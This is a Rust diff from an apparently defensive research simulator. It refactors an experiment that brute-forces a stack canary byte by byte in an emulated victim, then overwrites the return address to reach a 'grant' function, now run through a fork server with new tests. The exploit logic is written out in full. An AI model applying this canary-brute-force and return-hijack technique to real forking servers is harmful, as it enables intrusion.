@@ -25,6 +25,7 @@ use crate::attacker::VICTIM_SMASH;
 use crate::cache::ProgramCache;
 use crate::campaign::{CampaignConfig, CampaignCtx};
 use crate::experiments::Experiment;
+use crate::harness::{ForkServer, ServeMode};
 use crate::report::{ExperimentId, Report, Table};
 
 /// Result of a byte-by-byte canary recovery campaign.
@@ -41,26 +42,27 @@ pub struct OracleResult {
 }
 
 const FILLER: usize = 52; // buf[48] + the x local, up to the canary slot
-
-fn oracle_query(cache: &ProgramCache, seed: u64, payload: &[u8]) -> RunOutcome {
-    let mut cfg = DefenseConfig::none();
-    cfg.canary = true;
-    let mut session = cache.launch(VICTIM_SMASH, cfg, seed).expect("compiles");
-    session.machine.io_mut().feed_input(0, payload);
-    session.run(1_000_000)
-}
+const ORACLE_FUEL: u64 = 1_000_000;
 
 /// Runs the byte-by-byte recovery. `fork_semantics` keeps the canary
 /// fixed across attempts (forking server); otherwise every attempt
-/// sees a fresh canary (re-executed server). Every oracle query
-/// launches through `cache`: the forking server in particular runs
-/// hundreds of children off one compiled image.
+/// sees a fresh canary (re-executed server). The victim compiles and
+/// boots **once** through the [`ForkServer`]; every oracle query is a
+/// snapshot restore under `mode` ([`ServeMode::Fork`]) or a machine
+/// rebuild from the shared image ([`ServeMode::Rebuild`]) — the
+/// results are byte-identical either way.
 pub fn brute_force_canary_cached(
     cache: &ProgramCache,
     base_seed: u64,
     fork_semantics: bool,
     budget: u32,
+    mode: ServeMode,
 ) -> OracleResult {
+    let mut cfg = DefenseConfig::none();
+    cfg.canary = true;
+    let mut server = ForkServer::boot(cache, VICTIM_SMASH, cfg, base_seed, mode)
+        .expect("compiles")
+        .with_fuel(ORACLE_FUEL);
     let mut known: Vec<u8> = Vec::new();
     let mut attempts = 0u32;
     'bytes: for _pos in 0..4 {
@@ -77,9 +79,9 @@ pub fn brute_force_canary_cached(
             let mut payload = vec![b'A'; FILLER];
             payload.extend_from_slice(&known);
             payload.push(guess as u8);
-            let outcome = oracle_query(cache, seed, &payload);
+            let attempt = server.run_attempt(seed, &payload).expect("attempt runs");
             let crashed_on_canary = matches!(
-                outcome,
+                attempt.outcome,
                 RunOutcome::Fault(Fault::SoftwareTrap { code, .. }) if code == trap::CANARY
             );
             if !crashed_on_canary {
@@ -99,25 +101,16 @@ pub fn brute_force_canary_cached(
     };
 
     // Stage 2: full smash with the recovered canary, diverting the
-    // return into `grant`.
+    // return into `grant` — one more child of the same server.
     let mut smash_succeeded = false;
     if recovered {
-        let mut cfg = DefenseConfig::none();
-        cfg.canary = true;
-        let mut session = cache.launch(VICTIM_SMASH, cfg, base_seed).expect("compiles");
-        let grant = session.program.function_addr("grant").expect("exists");
+        let grant = server.program().function_addr("grant").expect("exists");
         let mut payload = vec![b'A'; FILLER];
         payload.extend_from_slice(&canary.to_le_bytes());
         payload.extend_from_slice(&0xbfff_0000u32.to_le_bytes()); // saved bp
         payload.extend_from_slice(&grant.to_le_bytes());
-        session.machine.io_mut().feed_input(0, &payload);
-        let _ = session.run(1_000_000);
-        smash_succeeded = session
-            .machine
-            .io()
-            .output(1)
-            .windows(6)
-            .any(|w| w == b"SECRET");
+        let attempt = server.run_attempt(base_seed, &payload).expect("attempt runs");
+        smash_succeeded = attempt.emitted(1, b"SECRET");
     }
     OracleResult {
         recovered,
@@ -130,7 +123,13 @@ pub fn brute_force_canary_cached(
 /// Legacy recovery entry point (process-wide cache).
 #[deprecated(note = "use `brute_force_canary_cached`")]
 pub fn brute_force_canary(base_seed: u64, fork_semantics: bool, budget: u32) -> OracleResult {
-    brute_force_canary_cached(crate::cache::global(), base_seed, fork_semantics, budget)
+    brute_force_canary_cached(
+        crate::cache::global(),
+        base_seed,
+        fork_semantics,
+        budget,
+        ServeMode::Fork,
+    )
 }
 
 /// Full E14 results.
@@ -194,7 +193,7 @@ fn oracle_row(name: &str, r: OracleResult) -> Vec<String> {
 }
 
 /// Runs the E14 experiment with an oracle budget per server model.
-pub fn compute(seed: u64, budget: u32, cache: &ProgramCache) -> CanaryOracleReport {
+pub fn compute(seed: u64, budget: u32, cache: &ProgramCache, mode: ServeMode) -> CanaryOracleReport {
     let mut cfg = DefenseConfig::none();
     cfg.canary = true;
     let actual_canary = cache
@@ -203,8 +202,8 @@ pub fn compute(seed: u64, budget: u32, cache: &ProgramCache) -> CanaryOracleRepo
         .canary_value
         .expect("canary installed");
     CanaryOracleReport {
-        forking: brute_force_canary_cached(cache, seed, true, budget),
-        fresh: brute_force_canary_cached(cache, seed, false, budget),
+        forking: brute_force_canary_cached(cache, seed, true, budget, mode),
+        fresh: brute_force_canary_cached(cache, seed, false, budget, mode),
         actual_canary,
     }
 }
@@ -212,7 +211,7 @@ pub fn compute(seed: u64, budget: u32, cache: &ProgramCache) -> CanaryOracleRepo
 /// Legacy sequential entry point.
 #[deprecated(note = "use `CanaryOracleExperiment` via the `Experiment` trait, or `compute`")]
 pub fn run(seed: u64) -> CanaryOracleReport {
-    compute(seed, 2048, crate::cache::global())
+    compute(seed, 2048, crate::cache::global(), ServeMode::Fork)
 }
 
 /// E14 under the campaign API: one cell per server model, so the two
@@ -239,6 +238,7 @@ impl Experiment for CanaryOracleExperiment {
             cfg.cell_seed(self.id(), cell),
             fork_semantics,
             cfg.oracle_budget,
+            cfg.serve_mode(),
         );
         let name = if fork_semantics {
             "forking (canary survives fork)"
@@ -269,7 +269,27 @@ mod tests {
     use super::*;
 
     fn run(seed: u64) -> CanaryOracleReport {
-        compute(seed, 2048, &ProgramCache::new())
+        compute(seed, 2048, &ProgramCache::new(), ServeMode::Fork)
+    }
+
+    #[test]
+    fn fork_and_rebuild_oracles_agree_exactly() {
+        let snap = compute(31, 2048, &ProgramCache::new(), ServeMode::Fork);
+        let rebuilt = compute(31, 2048, &ProgramCache::new(), ServeMode::Rebuild);
+        assert_eq!(snap.forking, rebuilt.forking);
+        assert_eq!(snap.fresh, rebuilt.fresh);
+        assert_eq!(snap.actual_canary, rebuilt.actual_canary);
+    }
+
+    #[test]
+    fn oracle_compiles_its_victim_exactly_once() {
+        let cache = ProgramCache::new();
+        let r = brute_force_canary_cached(&cache, 31, true, 2048, ServeMode::Fork);
+        assert!(r.recovered);
+        let stats = cache.stats();
+        // Hundreds of oracle queries, one compile: the fork server boots
+        // off a single cached image and never goes back to the compiler.
+        assert_eq!((stats.hits, stats.misses, stats.parses), (0, 1, 1));
     }
 
     #[test]
